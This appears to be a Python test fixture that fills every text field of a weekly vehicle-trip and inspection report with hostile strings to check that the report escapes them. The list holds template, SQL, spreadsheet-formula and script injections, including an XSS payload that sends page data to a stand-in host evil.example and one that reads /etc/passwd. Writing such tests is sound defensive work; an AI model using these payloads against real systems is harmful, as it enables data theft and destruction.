"""A week in which every text from outside is one that some program would run."""

from dataclasses import replace

from week_town import WEEK, at_ms, clue, frame, registry, track, trip

from reports.inspections import InspectionRecord
from reports.week.input import HEALTH, REJECTED, TRACKS, TRIPS, VIOLATIONS, WeekInput

HOSTILE = [
    "{{7*7}}",
    "<img src=x onerror=fetch('http://evil.example/'+document.title)>",
    "=cmd|' /C calc'!A0",
    "'; drop table violations; --",
    "</script><script>window.ran=1</script>",
    "50{% 完成",
    "`${window.ran=1}`",
    "\"><svg onload='window.ran=1'>",
    "+1+1",
    "@SUM(1)",
    "{#",
    "=1+1",
    '#panic("ran")',
    '#read("/etc/passwd")',
    "$x$ *b* _i_ @ref <label>",
    "苏A\u202e\x01𓀀",
]


def hostile_input():
    """A week in which every text from outside is hostile."""
    of = registry(HOSTILE[:6], HOSTILE)
    sites = tuple(replace(s, name=HOSTILE[n]) for n, s in enumerate(of.sites))
    districts = tuple(replace(d, name=HOSTILE[n + 4]) for n, d in enumerate(of.districts))
    trips = [trip(f"id{n}", plate, at_ms(n % 7, 21)) for n, plate in enumerate(HOSTILE)]
    clues = [
        clue(
            "off_route",
            plate,
            at_ms(n % 7, 22),
            trip_id=f"id{n}",
            district_id="x1",
            permit_no=plate,
            rule_version=plate,
        )
        for n, plate in enumerate(HOSTILE)
    ]
    clues += [clue(text, HOSTILE[0], at_ms(5, 22), site_id=text, company_id=text) for text in HOSTILE]
    health = [
        {
            "plate": p,
            "terminal": p,
            "datum_found": p,
            "faults": '{"<b>": {"why": "</td><script>window.ran=1</script>"}}',
        }
        for p in HOSTILE
    ]
    return WeekInput(
        WEEK,
        replace(of, sites=sites, districts=districts, digest="<script>window.ran=1</script>"),
        violations=frame(clues, VIOLATIONS),
        trips=frame(trips, TRIPS),
        trips_of_clues=frame(trips, TRIPS),
        tracks=frame([track(WEEK.monday, p) for p in [*HOSTILE[1:], "<b>unknown</b>"]], TRACKS),
        health=frame(health, HEALTH),
        rejected=frame([{"reason": t, "count": 1, "example": t} for t in HOSTILE], REJECTED),
        inspections=[InspectionRecord(WEEK.monday, "", (text, text), text, 1, 1, None, text) for text in HOSTILE],
        cutoff_ms=at_ms(5, 1),
    )
